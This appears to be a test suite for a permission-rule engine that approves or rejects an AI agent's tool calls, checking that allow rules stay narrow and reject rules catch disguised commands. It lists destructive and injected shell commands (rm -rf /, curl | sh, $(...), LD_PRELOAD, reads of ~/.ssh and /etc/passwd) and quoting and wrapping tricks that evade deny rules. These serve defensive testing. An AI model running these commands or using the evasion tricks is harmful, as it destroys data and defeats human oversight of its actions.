"""Permissions answered by rules: what a rule may allow, and what it must never allow."""

import posixpath
import shlex
from collections.abc import Sequence
from copy import deepcopy
from functools import cache
from typing import Any, Literal

import msgspec
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from msgspec.structs import replace

from tests.support import strategies
from twofold.errors import LocalError
from twofold.policy import (
    KINDS,
    BadPolicy,
    BadRule,
    By,
    Decided,
    Decision,
    Policy,
    Rule,
    Subject,
    advice,
    choose,
    globs,
    judged,
    parse_rule,
    read_policy,
    remembered,
    rule_for,
    subject_of,
    with_shown,
    write_policy,
)
from twofold.policy.rules import MOST_WORDS
from twofold.policy.subject import DEEPEST
from twofold.session import Session
from twofold.wire import codec, v2
from twofold.wire.base import Fault
from twofold.wire.shared import PermissionOption

OPTION_KINDS = ("allow_once", "allow_always", "reject_once", "reject_always")
CONTROLS = (*";&|`<>()\n\r\0\x1b", "$(", "${", "$[", "&&", "||", " >> ")

# Small alphabets, so that what is drawn meets: names, everything special to a glob or a shell.
texts = st.text(alphabet="ab *?[]!-~$;/\\.,\n", max_size=8)
names = st.sampled_from(["a", "b", ".env", "*", "**", "[a]", "~", "a\\b", "..", ".", ""])
paths = st.lists(names, min_size=1, max_size=5).map("/".join)
subjects = st.builds(
    Subject,
    st.sampled_from(["read", "edit", "execute", "other"]),
    st.none() | texts.filter(bool),
    texts,
    st.lists(paths.filter(bool), max_size=3).map(tuple),
    st.none() | texts.map(str.strip).filter(bool),
)
ALL_DECISIONS: list[Decision] = ["allow", "reject", "ask"]
decisions = st.sampled_from(ALL_DECISIONS)


def allow(**patterns: Any) -> Rule:
    return Rule(decision="allow", **patterns)


def reject(**patterns: Any) -> Rule:
    return Rule(decision="reject", **patterns)


def option(kind: str, option_id: str = "id", name: str = "name") -> PermissionOption:
    return PermissionOption(option_id, name, kind)


def about(call: dict[str, Any], title: str = "May I?") -> v2.RequestPermissionRequest:
    """A request about the tool call `t`."""
    subject = {"type": "tool_call", "toolCall": {"toolCallId": "t", **call}}
    return request(subject, title)


def request(subject: Any, title: str = "May I?") -> v2.RequestPermissionRequest:
    options = [{"optionId": "y", "name": "Yes", "kind": "allow_once"}]
    params = {"sessionId": "s", "title": title, "options": options, "subject": subject}
    return decoded(params)


def decoded(params: Any) -> v2.RequestPermissionRequest:
    faults: list[Fault] = []
    asked = codec.decode(strategies.dumps(params), v2.RequestPermissionRequest, faults)
    assert isinstance(asked, v2.RequestPermissionRequest)
    return asked


def judged_as(
    call: dict[str, Any], title: str = "May I?", directories: Sequence[str] = ("/w",), **fields: Any
) -> Subject:
    """What a rule sees of a request about a tool call, in a session that works in `/w`."""
    subject = {"type": "tool_call", "toolCall": {"toolCallId": "t", **call}}
    options = [{"optionId": "y", "name": "Yes", "kind": "allow_once"}]
    params = {"sessionId": "s", "title": title, "options": options, "subject": subject, **fields}
    return subject_of(
        decoded(params), Session("s"), directories=tuple(directories), home="/home/ada"
    )


def shown_fields(subject: Subject) -> Subject:
    """The subject without the fields that only wide rules and remembered decisions use."""
    return Subject(subject.kind, subject.name, subject.title, subject.paths, subject.command)


# ---- subjects --------------------------------------------------------------------------------


SUBJECTS: list[tuple[Any, Subject]] = [
    ({}, Subject(title="May I?")),
    ({"title": "Edit a", "kind": "edit", "name": "Edit"}, Subject("edit", "Edit", "Edit a")),
    ({"kind": "_acme/deploy"}, Subject("other", title="May I?")),
    ({"locations": [{"path": "/a"}, {"path": "/b", "line": 3}]}, Subject(paths=("/a", "/b"))),
    (
        {"content": [{"type": "diff", "path": "/a", "newText": "x"}]},  # as June wrote it
        Subject(paths=("/a",)),
    ),
    (
        {
            "content": [
                {
                    "type": "diff",
                    "changes": [
                        {"operation": "move", "oldPath": "/old", "path": "/new"},
                        {"operation": "delete", "path": "/gone"},
                        {"operation": "_swap", "oldPath": "/x", "path": "/y", "other": 1},
                    ],
                }
            ]
        },
        Subject(paths=("/old", "/new", "/gone", "/x", "/y")),
    ),
    (
        {"rawInput": {"command": " git status\n", "cwd": "/w"}},
        Subject("execute", command="git status"),
    ),
    ({"rawInput": {"command": ["git", "log", "a b"]}}, Subject("execute", command="git log 'a b'")),
    ({"rawInput": {"command": ["kill", 9]}}, Subject("execute", command="kill '?'")),
    ({"rawInput": {"command": "rm", "args": ["-r", "/"]}}, Subject("execute", command="rm -r /")),
    ({"rawInput": {"cmd": "ls"}}, Subject("execute", command="ls")),
    ({"rawInput": {"command": "", "args": ["x"]}}, Subject()),
    ({"rawInput": {"command": {"run": "ls"}, "path": 3}}, Subject("execute")),
    ({"rawInput": {"paths": [4, "/p"]}}, Subject(paths=("/p",))),
    ({"rawInput": "rm -rf /"}, Subject()),
    ({"rawInput": [None]}, Subject()),
    *(
        ({"rawInput": {key: "/p"}, "locations": [{"path": "/p"}]}, Subject(paths=("/p",)))
        for key in ("path", "file_path", "filePath", "filepath", "abs_path", "absolute_path")
    ),
]


@pytest.mark.parametrize(("call", "subject"), SUBJECTS)
def test_a_subject_has_the_fields_of_the_tool_call(call: Any, subject: Subject) -> None:
    assert shown_fields(subject_of(about(call), Session("s"))) == replace(
        subject, title=subject.title or "May I?"
    )


def test_the_fields_of_a_request_replace_those_of_the_call_in_the_session() -> None:
    session = Session("s")
    known = {
        "toolCallId": "t",
        "sessionUpdate": "tool_call_update",
        "kind": "execute",
        "name": "bash",
        "title": "Run it",
        "locations": [{"path": "/a"}],
        "rawInput": {"command": "make"},
    }
    session.apply(strategies.v2_struct(known))
    all_of_it = Subject("execute", "bash", "Run it", ("/a",), "make")
    assert shown_fields(subject_of(about({}), session)) == all_of_it
    patch = {"kind": None, "name": None, "title": None, "locations": None, "rawInput": None}
    assert shown_fields(subject_of(about(patch), session)) == Subject(title="May I?")
    assert shown_fields(subject_of(about({"rawInput": {"command": "ls"}}), session)) == replace(
        all_of_it, command="ls"
    )


def test_a_command_is_about_itself_and_about_the_call_it_names() -> None:
    session = Session("s")
    session.ask(1, about({"name": "bash", "kind": "other", "locations": [{"path": "/a"}]}))
    subject = {"type": "command", "command": "make all", "cwd": "/w"}
    assert shown_fields(subject_of(request(subject), session)) == Subject(
        "execute", title="May I?", command="make all"
    )
    assert shown_fields(subject_of(request({**subject, "toolCallId": "t"}), session)) == Subject(
        "execute", "bash", "May I?", ("/a",), "make all"
    )


@pytest.mark.parametrize("subject", [None, {"type": "_house", "command": "ls"}])
def test_a_request_with_an_unknown_subject_has_only_a_title(subject: Any) -> None:
    assert shown_fields(subject_of(request(subject), Session("s"))) == Subject(title="May I?")


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=3),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["command", "cmd", "args", "path", "paths"]), inner)
    ),
)


@given(json_values)
def test_no_input_of_a_tool_is_too_odd_for_a_subject(raw: Any) -> None:
    subject = subject_of(
        v2.RequestPermissionRequest(
            "s",
            "May I?",
            [],
            subject=v2.ToolCallPermissionSubject(v2.ToolCallPatch("t", raw_input=raw)),
        ),
        Session("s"),
    )
    assert subject.command is None or subject.command.strip()
    assert "" not in subject.paths


@given(strategies.v2_struct_streams("tool_call_update"), strategies.v2_permission_requests())
def test_a_subject_is_the_same_before_and_after_the_session_took_the_request(
    updates: Sequence[v2.SessionUpdate], params: Any
) -> None:
    session = Session("s")
    for update in updates:
        session.apply(update)
    asked = decoded(params)
    untouched = deepcopy(session)
    before = subject_of(asked, session)
    assert session == untouched
    session.ask(1, asked)
    assert subject_of(asked, session) == before
    assert before.kind in KINDS


# ---- patterns --------------------------------------------------------------------------------


@given(paths)
def test_a_path_is_normalised_as_text(path: str) -> None:
    expected = posixpath.normpath(path)
    assert globs.normal(path) == (expected[1:] if expected.startswith("//") else expected)
    assert globs.normal(globs.normal(path)) == globs.normal(path)


@given(texts)
def test_an_escaped_text_is_literal_and_matches_itself(text: str) -> None:
    pattern = globs.escape(text)
    assert globs.literal(pattern)
    assert globs.text_fault(pattern) is None
    assert globs.matches_text(pattern, text)


@given(texts, texts)
def test_an_escaped_text_matches_no_other(one: str, other: str) -> None:
    assert globs.matches_text(globs.escape(one), other) == (one == other)


def steps_match(pattern: tuple[str, ...], steps: tuple[str, ...]) -> bool:
    """What `**` and `*` mean, in the plainest code."""

    @cache
    def match(at: int, here: int) -> bool:
        if at == len(pattern):
            return here == len(steps)
        if pattern[at] == "**":
            return match(at + 1, here) or (here < len(steps) and match(at, here + 1))
        return (
            here < len(steps)
            and (pattern[at] == steps[here] or (pattern[at] == "*" and steps[here] != ""))
            and match(at + 1, here + 1)
        )

    return match(0, 0)


@given(
    st.booleans(),
    st.lists(st.sampled_from(["a", "b", "*", "**"]), min_size=1, max_size=6),
    st.booleans(),
    st.lists(st.sampled_from(["a", "b", ".c"]), min_size=1, max_size=6),
)
def test_a_star_stays_between_slashes_and_two_stars_cross_them(
    rooted: bool, pattern: list[str], absolute: bool, steps: list[str]
) -> None:
    root, start = [""] * rooted, [""] * absolute
    assert globs.matches_path("/".join(root + pattern), "/".join(start + steps)) == steps_match(
        (*root, *pattern), (*start, *steps)
    )


@given(paths.map(lambda path: path.lstrip("/")), st.sampled_from(["/", "/**", "/*", "/a/**/b"]))
def test_a_relative_path_never_matches_an_absolute_pattern(path: str, pattern: str) -> None:
    assert not allow(path=pattern).matches(Subject(paths=(path or ".",)))
    assert not reject(path=pattern).matches(Subject(paths=(path or ".",)))


@pytest.mark.parametrize(
    ("path", "matches"), [("/", True), ("//", True), ("/a/..", True), ("/a", False), ("a", False)]
)
def test_a_slash_alone_is_the_root_directory_and_nothing_in_it(path: str, matches: bool) -> None:
    subject = Subject(paths=(path,))
    assert allow(path="/").matches(subject) is matches
    assert reject(path="/").matches(subject) is matches


def test_the_root_directory_is_below_itself_and_has_no_name() -> None:
    root = Subject(paths=("/",))
    assert allow(path="/**").matches(root)
    assert not allow(path="/*").matches(root)


# ---- rules that allow are narrow -------------------------------------------------------------


@given(texts, st.sampled_from(CONTROLS), texts, st.data())
def test_a_wildcard_never_allows_a_command_with_shell_control(
    before: str, control: str, after: str, data: st.DataObject
) -> None:
    command = before + control + after
    start = data.draw(st.integers(0, len(command)))
    end = data.draw(st.integers(start, len(command)))
    pattern = globs.escape(command[:start]) + "*" + globs.escape(command[end:])
    assume(pattern != command)
    subject = Subject("execute", title=command, command=command)
    assert reject(command=pattern).matches(subject), "the pattern itself does match"
    assert not allow(command=pattern).matches(subject)
    assert not allow(kind="execute", command=pattern).matches(subject)
    # an agent that gives no more than a title puts the command there
    assert not allow(title=pattern).matches(Subject("execute", title=command))
    assert not allow(title="*").matches(Subject("execute", title=command))


COMMANDS: list[tuple[str, str, bool]] = [
    ("git *", "git status", True),
    ("git *", "git log --oneline -3", True),
    ("git *", "git", False),
    ("git *", "gitk", False),
    ("git *", "sudo git status", False),
    ("git *", "git status; rm -rf /", False),
    ("git *", "git status && rm -rf /", False),
    ("git *", "git status & rm -rf /", False),
    ("git *", "git log | sh", False),
    ("git *", "git log > /etc/passwd", False),
    ("git *", "git log `rm -rf /`", False),
    ("git *", "git log $(rm -rf /)", False),
    ("git *", "git log (rm -rf /)", False),  # fish
    ("git *", "git log ${x:=y}", False),
    ("git *", "git status\nrm -rf /", False),
    ("git *", "git status\rrm -rf /", False),
    ("git -C * status", "git -C /repo && rm -rf / && git -C /repo status", False),
    ("make && make test", "make && make test", True),
    ("make && make *", "make && make test", False),
    ("ls *.py | wc", "ls *.py | wc", True),  # to the letter
    ("ls [*].py | wc", "ls *.py | wc", True),
    ("ls [*].py | wc", "ls a.py | wc", False),
    ("*", "anything at all", True),
]


@pytest.mark.parametrize(("pattern", "command", "allowed"), COMMANDS)
def test_a_command_is_allowed_by_a_pattern(pattern: str, command: str, allowed: bool) -> None:
    rule = allow(command=pattern)
    assert rule.matches(Subject("execute", command=command)) is allowed
    assert not rule.matches(Subject("execute"))


@given(paths, st.sampled_from(["/a/**", "/a/*", "/a/b", "/a/**/b"]))
def test_no_detour_leads_out_of_an_allowed_directory(path: str, pattern: str) -> None:
    if allow(path=pattern).matches(Subject(paths=(path,))):
        where = posixpath.normpath(path).lstrip("/")
        assert path.startswith("/")
        assert where == "a" or where.startswith("a/")
        assert "\\" not in path


PATHS: list[tuple[str, tuple[str, ...], bool]] = [
    ("/src/**", ("/src/a.py", "/src/b/c.py"), True),
    ("/src/**", ("/src",), True),
    ("/src/**", ("/src/a.py", "/etc/passwd"), False),
    ("/src/**", ("/src/../etc/passwd",), False),
    ("/src/**", ("//src/./a.py",), True),
    ("/src/**", ("/srcs/a.py",), False),
    ("/src/**", ("src/a.py",), False),
    ("/src/**", ("/src/..\\..\\etc\\passwd",), False),
    ("/src/**", (), False),
    ("**", (), False),
    ("/src/*", ("/src/a/b",), False),
    ("/src/*.py", ("/src/a.py",), True),
    ("src/**", ("/home/ada/src/a",), False),
    ("*/a", ("../a",), False),
    ("*/a", ("/a",), False),
    ("**/*.py", ("/a/b/c.py", "d.py"), True),
]


@pytest.mark.parametrize(("pattern", "touched", "allowed"), PATHS)
def test_paths_are_allowed_by_a_pattern_that_matches_every_one(
    pattern: str, touched: tuple[str, ...], allowed: bool
) -> None:
    assert allow(path=pattern).matches(Subject("edit", paths=touched)) is allowed


def test_one_of_several_patterns_suffices_for_each_path() -> None:
    rule = allow(path=("/src/**", "/docs/**"))
    assert rule.matches(Subject(paths=("/src/a", "/docs/b")))
    assert not rule.matches(Subject(paths=("/src/a", "/tests/b")))


@pytest.mark.parametrize("patterns", [{"path": "/src/**"}, {"title": "*"}])
def test_no_path_and_no_title_allows_a_command_it_does_not_speak_of(
    patterns: dict[str, str],
) -> None:
    subject = Subject("execute", "bash", "Tidy up", ("/src/a",), "rm -rf /")
    assert not allow(**patterns).matches(subject)
    assert not allow(kind="execute", name="bash", **patterns).matches(subject)
    assert allow(**patterns).matches(replace(subject, command=None))
    assert allow(command="rm *", **patterns).matches(subject)
    assert reject(**patterns).matches(subject)


BESIDE: dict[str, dict[str, Any]] = {
    "variables": {"env": {"LD_PRELOAD": "/tmp/x.so"}},
    "listed variables": {"env": [{"name": "PATH", "value": "/tmp"}]},
    "written variables": {"environment": ["PATH=/tmp"]},
    "nested variables": {"options": {"envVars": {"PATH": "/tmp"}}},
    "another directory": {"cwd": "/tmp"},
    "another directory below": {"workdir": "sub"},
    "another directory of a command": {"dir_path": "/tmp"},
    "another directory inside": {"options": {"workingDirectory": "/tmp"}},
    "a script": {"script": "rm -rf ~"},
    "a script inside": {"steps": [{"script": "rm -rf ~"}]},
    "another command": {"cmd": "rm -rf ~"},
    "another command inside": {"then": {"command": ["rm", "-rf", "~"]}},
    "input": {"stdin": "rm -rf ~"},
}


@pytest.mark.parametrize("extra", BESIDE.values(), ids=list(BESIDE))
def test_an_allow_rule_does_not_cover_what_is_beside_what_it_names(extra: dict[str, Any]) -> None:
    raw = {"command": "git status"}
    call = {"kind": "execute", "title": "git status", "rawInput": raw}
    rules = [allow(command="git status"), allow(command="git *"), allow(command="*")]
    for rule in rules:
        assert rule.matches(judged_as(call))
        assert not rule.matches(judged_as({**call, "rawInput": {**raw, **extra}}))
    assert allow(kind="execute").matches(judged_as({**call, "rawInput": {**raw, **extra}}))


@pytest.mark.parametrize("cwd", ["/w", "/w/", "/w/../w", ".", "/real/w"])
def test_the_directory_of_the_session_is_no_other_directory(cwd: str) -> None:
    call = {"rawInput": {"command": "make", "cwd": cwd}}
    assert allow(command="make").matches(judged_as(call, directories=("/w", "/real/w")))
    assert not allow(command="make").matches(judged_as(call, directories=("/v",))) or cwd == "."
    assert not allow(command="make").matches(judged_as(call, directories=()))


@pytest.mark.parametrize(
    "raw",
    [
        {"path": "/src/a", "command": "rm -rf ~"},
        {"path": "/src/a", "script": "rm -rf ~"},
        {"path": "/src/a", "env": {"A": "1"}},
        {"path": "/src/a", "target_file": "/etc/passwd"},
        {"path": "/src/a", "other": "/etc/passwd"},
        {"path": "/src/a", "other": "../etc/passwd"},
        {"path": "/src/a", "uri": "file:///etc/passwd"},
        {"path": "/src/a", "files": [{"path": "/etc/passwd"}]},
        {"path": "/src/a", "files": {"/etc/passwd": "root"}},
    ],
)
def test_a_path_allows_nothing_that_is_not_that_path(raw: dict[str, Any]) -> None:
    assert allow(path="/src/**").matches(
        judged_as({"kind": "edit", "rawInput": {"path": "/src/a"}})
    )
    assert not allow(path="/src/**").matches(judged_as({"kind": "edit", "rawInput": raw}))


@pytest.mark.parametrize("raw", [{"command": "x"}, {"script": "x"}, {"env": {"A": "1"}}])
def test_no_other_kind_covers_what_is_run(raw: dict[str, Any]) -> None:
    for kind in KINDS:
        call = {"kind": kind, "name": "Read", "rawInput": {"path": "/w/a", **raw}}
        rule = allow(kind=kind)
        assert rule.matches(judged_as(call)) is (kind == "execute")


def test_a_command_makes_a_request_an_execution_whatever_it_is_called() -> None:
    for call in ({}, {"kind": "other"}, {"kind": "_acme/run"}, {"kind": "search"}):
        subject = judged_as({**call, "rawInput": {"command": "git status"}})
        assert subject.kind == "execute"
        assert parse_rule("execute", "allow").matches(subject)
        assert parse_rule("execute,command:git status", "allow").matches(subject)


def prose(text: str) -> dict[str, Any]:
    return {"content": [{"type": "content", "content": {"type": "text", "text": text}}]}


@pytest.mark.parametrize(
    ("call", "allowed"),
    [
        ({"kind": "execute", "title": "git status"}, True),
        ({"kind": "execute", "title": "git status", **prose("git status")}, True),
        (
            {"kind": "execute", "title": "git status"} | prose("[current working directory /w]"),
            True,
        ),
        (
            {"kind": "execute", "title": "git status"} | prose("[current working directory /etc]"),
            False,
        ),
        ({"kind": "execute", "title": "Run git status"}, False),
        ({"kind": "execute", "title": "git status; rm -rf ~"}, False),
        ({"kind": "execute", "title": "git status", **prose("rm -rf ~")}, False),
        ({"kind": "execute", "title": "git status", "rawInput": {"x": "rm -rf ~"}}, False),
        ({"kind": "execute", "title": "git status", "rawInput": {"command": "rm -rf ~"}}, False),
        ({"kind": "other", "title": "git status"}, False),
        ({"title": "git status"}, False),
        ({"kind": "execute", "title": "Shell", **prose("git status")}, False),
    ],
)
def test_a_command_in_prose_is_allowed_only_as_the_whole_title_of_an_execution(
    call: dict[str, Any], allowed: bool
) -> None:
    subject = judged_as(call, title=call["title"])
    for pattern in ("git status", "git stat*"):
        assert allow(command=pattern).matches(subject) is allowed
        assert allow(command=pattern, kind="execute").matches(subject) is allowed
    if "rm -rf ~" not in str(call.get("rawInput", {}).get("command", "")):
        assert reject(command="git *").matches(subject)
        assert Rule(decision="ask", command="git *").matches(subject)


raw_values = st.recursive(
    st.none() | st.booleans() | st.text(alphabet="ab/.~ ;", max_size=6),
    lambda inner: (
        st.lists(inner, max_size=2)
        | st.dictionaries(st.sampled_from(["path", "x", "env", "cwd", "script", "files"]), inner)
    ),
    max_leaves=6,
)
ALLOWING = [
    allow(command="make"),
    allow(command="make *"),
    allow(command="*"),
    allow(path="/w/**"),
    allow(path="**"),
    allow(title="*"),
    allow(kind="execute"),
    allow(kind="e*", path="/w/a"),
    allow(name="*"),
]


@given(
    st.sampled_from(
        [
            {"kind": "execute", "rawInput": {"command": "make all"}},
            {"kind": "execute", "title": "make", "rawInput": {"command": "make"}},
            {"kind": "edit", "rawInput": {"path": "/w/a"}},
            {"kind": "edit", "rawInput": {"path": "/etc/a"}},
            {"kind": "execute", "title": "make", "locations": [{"path": "/w/a"}]},
        ]
    ),
    st.dictionaries(
        st.sampled_from(["x", "y", "env", "cwd", "script", "file", "args2", "cmds"]), raw_values
    ),
    st.lists(st.sampled_from(["/w/a", "/etc/b", "c"]).map(lambda path: {"path": path}), max_size=2),
    st.sampled_from([{}, prose("b"), {"_acme": "x"}, {"_acme": {"script": "x"}}]),
)
def test_adding_to_a_request_never_turns_what_is_not_allowed_into_what_is(
    call: dict[str, Any], raw: dict[str, Any], locations: list[Any], rest: dict[str, Any]
) -> None:
    """Held for requests that name a command or a path, and for every rule that allows.

    A request that names nothing may add what a rule names, and is then allowed that.
    """
    more = {**call, **rest, "rawInput": {**raw, **call.get("rawInput", {})}}
    more["locations"] = [*call.get("locations", []), *locations]
    before, after = judged_as(call, call.get("title", "x")), judged_as(more, call.get("title", "x"))
    assume(before.kind == after.kind)  # a command that is added makes it an execution
    for rule in ALLOWING:
        assert rule.matches(before) or not rule.matches(after)


@given(
    st.sampled_from(ALLOWING),
    st.sampled_from(KINDS),
    st.sampled_from(["make", "make all", "x"]),
    st.dictionaries(
        st.sampled_from(["command", "path", "x", "env", "cwd", "script", "file"]), raw_values
    ),
    st.lists(st.sampled_from(["/w/a", "/etc/b"]).map(lambda path: {"path": path}), max_size=2),
)
def test_what_is_allowed_is_named_by_the_rule(
    rule: Rule, kind: str, title: str, raw: dict[str, Any], locations: list[Any]
) -> None:
    """A rule for a kind or a name names everything that goes by it. Any other names what is run,
    and a rule for paths every path; neither lets anything run beside that, or elsewhere.
    """
    call = {"kind": kind, "title": title, "rawInput": raw, "locations": locations}
    subject = judged_as(call, title)
    if not rule.matches(subject):
        return
    if rule.command is rule.path is rule.title is None:
        assert subject.kind == "execute" or not (subject.command or subject.env or subject.scripts)
        return
    assert (subject.env, subject.scripts) == ((), ())
    assert not subject.elsewhere
    if rule.command is None:
        assert subject.command is None
    else:
        assert globs.matches_text(rule.command, subject.command or subject.title)
    if rule.path is not None:
        assert subject.paths
        for path in subject.paths:
            assert any(globs.matches_path(each, path) for each in rule.path_patterns)


# ---- rules that reject are wide --------------------------------------------------------------


@pytest.mark.parametrize("decision", ["reject", "ask"])
@pytest.mark.parametrize(
    ("patterns", "subject"),
    [
        ({"path": "**/.env"}, Subject("edit", paths=("/src/a", "/src/x/../.env"))),
        ({"path": "**/.env"}, Subject("edit", paths=(".env",))),
        ({"path": "**/.env"}, Subject("edit", paths=("C:\\src\\.env",))),
        ({"path": ("/a", "/b")}, Subject("edit", paths=("/b", "/c"))),
        ({"command": "rm *"}, Subject("execute", command="rm -rf /")),
        ({"command": "rm *"}, Subject("execute", command="git status;rm\t-rf /")),
        ({"command": "rm *"}, Subject("execute", command="echo $(rm -rf /)")),
        ({"command": "*\n*"}, Subject("execute", command="a\nb")),
        ({"title": "Delete the *"}, Subject(title="Delete\n  the repository")),
        ({"kind": "e*"}, Subject("execute")),
        ({"name": "mcp__*"}, Subject(name="mcp__shell")),
    ],
)
def test_any_part_that_matches_is_enough_to_reject_or_ask(
    decision: Decision, patterns: Any, subject: Subject
) -> None:
    assert Rule(decision=decision, **patterns).matches(subject)


SECRETS = [reject(path="/w/secret/**"), allow(kind="read")]
REACHED: dict[str, dict[str, Any]] = {
    "relative": {"path": "secret/a"},
    "by a detour": {"path": "../w/secret/a"},
    "from below": {"path": "a", "cwd": "/w/secret"},
    "from below, relatively": {"path": "a", "cwd": "secret"},
    "uri": {"path": "file:///w/secret/a"},
    "uri of a host": {"uri": "file://localhost/w/secret/a"},
    "encoded uri": {"uri": "file:///w/%73ecret/a"},
    "encoded": {"path": "%2Fw%2Fsecret%2Fa"},
    "other slashes": {"path": "secret\\a"},
    "target_file": {"target_file": "/w/secret/a"},
    "dir_path": {"dir_path": "secret"},
    "any key": {"thing": "/w/secret/a"},
    "nested": {"files": [{"name": "secret/a"}]},
    "list": {"files": ["x", "secret/a"]},
    "deep": {"a": [{"b": {"c": ["secret/a"]}}]},
    "glob": {"pattern": "secret/**"},
    "name of a field": {"files": {"secret/a": "text"}},
    "name of a field of the input": {"secret/a": "text"},
    "behind a sign": {"data": "@secret/a"},
    "a line behind it": {"location": "secret/a:12"},
    "in a sentence": {"instructions": "Look into secret/a, please."},
    "another name of the directory": {"path": "/real/w/secret/a"},
}


@pytest.mark.parametrize("raw", REACHED.values(), ids=list(REACHED))
def test_a_rule_that_rejects_a_path_finds_it_however_it_is_written(raw: dict[str, Any]) -> None:
    names = ("/w", "/real/w")
    subject = judged_as({"kind": "read", "title": "Read", "rawInput": raw}, directories=names)
    assert Policy(SECRETS).decide(subject).decision == "reject"
    ask = [Rule(decision="ask", path="/w/secret/**"), allow(kind="read")]
    assert Policy(ask).decide(subject).decision == "ask"
    harmless = {"kind": "read", "title": "Read", "rawInput": {"path": "src/secret.py"}}
    assert Policy(SECRETS).decide(judged_as(harmless)).decision == "allow"


@pytest.mark.parametrize(
    "call",
    [
        {"title": "Read secret/a"},
        {"content": [{"type": "content", "content": {"type": "text", "text": "cat secret/a"}}]},
        {"content": [{"type": "diff", "path": "secret/a", "newText": ""}]},
        {
            "content": [
                {
                    "type": "diff",
                    "changes": [{"operation": "modify", "path": "/w/b"}],
                    "patch": {"format": "git_patch", "text": "--- /w/b\n+++ /w/secret/a\n"},
                }
            ]
        },
        {"kind": "edit", "rawInput": {"patch": "*** Update File: secret/a\n-x\n+y\n"}},
        {"_acme": {"where": ["secret/a"]}},
        {"locations": [{"path": "/w/b", "_acme": "secret/a"}]},
        {"rawInput": "secret/a"},
        {"rawInput": {"command": "cat secret/a"}},
        {"rawInput": {"command": "cd secret && cat a"}},
        {"rawInput": {"command": "ls", "env": {"TARGET": "secret/a"}}},
    ],
)
def test_a_rule_that_rejects_a_path_looks_at_all_of_the_request(call: dict[str, Any]) -> None:
    subject = judged_as({"title": "Look", **call})
    assert reject(path="/w/secret/**").matches(subject)
    assert not reject(path="/w/other/**").matches(subject)


def test_a_rule_that_rejects_a_path_resolves_the_home_directory() -> None:
    rule = reject(path="/home/ada/.ssh/**")
    for path in ("~/.ssh/id", "$HOME/.ssh/id", "${HOME}/.ssh/id"):
        assert rule.matches(judged_as({"rawInput": {"path": path}}))
        assert rule.matches(judged_as({"rawInput": {"command": f"cat {path}"}}))


def test_a_rule_that_rejects_a_path_checks_an_unknown_subject_too() -> None:
    subject = subject_of(
        request({"type": "_house", "rooms": [{"door": "secret/a"}], "do": "rm -rf x"}),
        Session("s"),
        directories=("/w",),
    )
    assert reject(path="/w/secret/**").matches(subject)
    assert reject(command="rm *").matches(subject)


def test_what_an_edit_writes_is_neither_a_path_nor_a_command() -> None:
    raw = {"file_path": "/w/README", "old_string": "cp a .env", "new_string": "rm -rf build\n.env"}
    subject = judged_as({"kind": "edit", "title": "Edit README", "rawInput": raw})
    assert not reject(path="**/.env").matches(subject)
    assert not reject(command="rm *").matches(subject)
    # but to call a thing an edit hides nothing
    raw = {"file_path": "/w/README", "new_string": ".env"}
    assert reject(path="**/.env").matches(judged_as({"kind": "edit", "rawInput": raw}))
    raw = {"command": "sh", "text": "rm -rf build"}
    assert reject(command="rm *").matches(judged_as({"kind": "edit", "rawInput": raw}))


WRAPPED = [
    *("{}", "/bin/{}", "/usr/local/bin/{}", "sudo {}", "sudo -u root {}", "FOO=1 {}"),
    *("env {}", "env -i FOO=1 {}", "A=1 B='2 3' {}", "! {}", "{{ {}; }}", "({})", "x && {}"),
    *("x || {}", "x | {}", "x; {}", "x & {}", "$({})", "echo `{}`", "xargs {}", "find . -exec {}"),
    *("nohup {}", "time {}", "command {}", "exec {}", "nice -n 5 {}", "timeout 5 {}", "\\{}"),
    *("x\n{}", "x\r{}", "x\x85{}", "x\u2028{}", "x\u2029{}", "x\x0b{}", "x\x0c{}", "x\\\n; {}"),
    *("if true; then {}; fi", "for i in 1; do {}; done", "ssh host {}", "su -c '{}'", "eval '{}'"),
    *("bash -c '{}'", 'sh -lc "{}"', "bash -c 'x; {}'", "cat <<E | sh\n{}\nE", "<({})", "{}&"),
]
words = st.text(alphabet="abc-/.=", min_size=1, max_size=5)


@pytest.mark.parametrize("decision", ["reject", "ask"])
@pytest.mark.parametrize("wrap", WRAPPED)
def test_a_rejected_command_is_rejected_in_whatever_it_is_wrapped(
    wrap: str, decision: Decision
) -> None:
    rule = Rule(decision=decision, command="rm *")
    for command in ("rm -rf x", "rm"):
        line = wrap.format(command)
        assert rule.matches(Subject("execute", command=line))
        assert rule.matches(judged_as({"rawInput": {"command": line}}))
        assert rule.matches(judged_as({"rawInput": {"do": {"this": [line]}}}))
    assert not rule.matches(Subject("execute", command=wrap.format("farm -rf x")))


@given(st.lists(words, min_size=1, max_size=3), st.sampled_from(WRAPPED), st.data())
def test_wrapping_never_saves_a_command_from_the_rule_that_rejects_it(
    command: list[str], wrap: str, data: st.DataObject
) -> None:
    line = " ".join(command)
    cut = data.draw(st.integers(1, len(line)))
    rule = reject(command=globs.escape(line[:cut]) + ("*" if cut < len(line) else ""))
    assert rule.matches(Subject("execute", command=line))
    wrapped = wrap.format(line)
    assert rule.matches(Subject("execute", command=wrapped))
    assert rule.matches(
        Subject("execute", command=data.draw(st.sampled_from(WRAPPED)).format(wrapped))
    )


HIDDEN = [
    *("r''m -rf x", '"rm" -rf x', "r\\m -rf x", "rm${IFS}-rf x", "$'rm' -rf x", "rm\\\n -rf x"),
    *("bash -lc rm\\ -rf\\ x", "'/bin/rm' -rf x"),
]


@pytest.mark.parametrize("line", HIDDEN)
def test_quotes_do_not_hide_a_rejected_command(line: str) -> None:
    assert reject(command="rm *").matches(Subject("execute", command=line))
    assert reject(command="rm -rf x").matches(Subject("execute", command=line))


@pytest.mark.parametrize(
    ("pattern", "line", "matches"),
    [
        ("curl * | sh", "sudo curl http://x | sh; true", True),
        ("curl * | sh", "curl http://x", False),
        ("*sudo*", "x; sudo y", True),
        ("rm -rf /", "rm -rf /home", False),
        ("rm -r[fF] *", "time rm -rF x", True),
        ("?m *", "time rm x", True),
        ("git push *", "git -C x push", False),
        ("echo 'a b'", "bash -c \"echo 'a b'\"", True),
        ("*", "", False),
    ],
)
def test_a_wide_rule_matches_exactly_its_pattern(pattern: str, line: str, matches: bool) -> None:
    assert reject(command=pattern).matches(Subject("execute", command=line or None)) is matches


def test_a_rule_for_any_command_does_not_take_prose_for_one() -> None:
    rule = Rule(decision="ask", command="*")
    assert not rule.matches(judged_as({"kind": "read", "title": "Read a file"}))
